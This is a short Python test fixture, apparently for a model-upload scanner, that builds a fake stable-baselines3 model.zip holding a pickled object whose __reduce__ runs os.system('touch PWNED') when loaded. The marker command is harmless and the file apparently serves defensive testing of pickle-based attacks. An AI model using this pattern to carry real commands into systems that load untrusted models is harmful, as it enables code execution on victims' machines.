"""A stable-baselines3 model whose data would unpickle to a command."""

import json
import os
import pickle

from tests.hostile.parts import Upload, zipped


class Payload:
    def __reduce__(self) -> tuple:
        return os.system, ("touch PWNED",)


def build() -> Upload:
    data = json.dumps({"policy_class": {":type:": "<class>", ":serialized:": pickle.dumps(Payload()).hex()}})
    return [("model.zip", zipped(("data", data.encode()), ("policy.pth", b"PK"), ("system_info.txt", b"")))]
